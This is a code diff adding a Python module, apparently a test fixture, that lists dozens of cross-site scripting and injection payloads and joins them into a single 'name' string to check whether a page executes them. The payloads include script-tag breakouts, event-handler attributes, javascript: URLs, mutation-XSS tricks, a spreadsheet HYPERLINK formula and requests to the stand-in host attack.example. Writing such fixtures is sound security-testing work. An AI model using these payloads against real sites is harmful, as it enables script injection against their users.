@@ -1,0 +1,66 @@
+"""What somebody might write into a name in the hope that a page runs it."""
+
+MARK = "globalThis.attacked=1"
+
+PAYLOADS = (
+    f"<script>{MARK}</script>",
+    f"</script><script>{MARK}</script>",
+    f"</style><script>{MARK}</script>",
+    f"</title><script>{MARK}</script>",
+    f"</pre><script>{MARK}</script>",
+    f"</textarea><script>{MARK}</script>",
+    f"<ScRiPt>{MARK}</sCrIpT>",
+    f"<script\x0b>{MARK}</script>",
+    f"<script/x>{MARK}</script>",
+    f"<<script>{MARK};//<</script>",
+    f'"><script>{MARK}</script>',
+    f"'><script>{MARK}</script>",
+    f"--><script>{MARK}</script><!--",
+    f"]]><script>{MARK}</script>",
+    f"<img src=x onerror={MARK}>",
+    f"<img src='x' onerror='{MARK}'/>",
+    f'"><img src=x onerror={MARK}>',
+    f"<svg onload={MARK}>",
+    f"<svg><script>{MARK}</script></svg>",
+    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
+    f"</svg><img src=x onerror={MARK}>",
+    f"</title></svg><script>{MARK}</script>",
+    f"<body onload={MARK}>",
+    f"<input autofocus onfocus={MARK}>",
+    f"<details open ontoggle={MARK}>",
+    f"<video><source onerror={MARK}></video>",
+    f"<audio src=x onerror={MARK}>",
+    f"<marquee onstart={MARK}>",
+    f"<iframe src=javascript:{MARK}></iframe>",
+    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
+    f"<object data=javascript:{MARK}></object>",
+    f"<embed src=javascript:{MARK}>",
+    f"<a href=javascript:{MARK}>x</a>",
+    f"<form action=javascript:{MARK}><button autofocus>x</button></form>",
+    "<meta http-equiv=refresh content='0;url=http://attack.example/'>",
+    "<base href=http://attack.example/>",
+    "<link rel=stylesheet href=http://attack.example/x.css>",
+    "<style>@import 'http://attack.example/x.css';</style>",
+    "<img src=http://attack.example/x.png>",
+    f'" onmouseover="{MARK}" x="',
+    f"' onfocus='{MARK}' tabindex='0",
+    '" style="background:url(http://attack.example/x)" x="',
+    f"&lt;script&gt;{MARK}&lt;/script&gt;",
+    f"&#60;script&#62;{MARK}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e",
+    "{{ 7 * 7 }}{% raw %}${7*7}",
+    f"javascript:{MARK}",
+    f"';{MARK};'",
+    '=HYPERLINK("http://attack.example/")',
+    "@import url(http://attack.example/x)",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}></style></mglyph></table></mtext></math>",
+    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
+    f"<template><script>{MARK}</script></template>",
+    "\u202e\u2066<b>\u2069\u202c",
+)
+
+
+def attack(place: int) -> str:
+    """All of them in one name, another one first for each place, since a name may be cut off."""
+    start = place % len(PAYLOADS)
+    return " ".join((f"n{place}", *PAYLOADS[start:], *PAYLOADS[:start]))
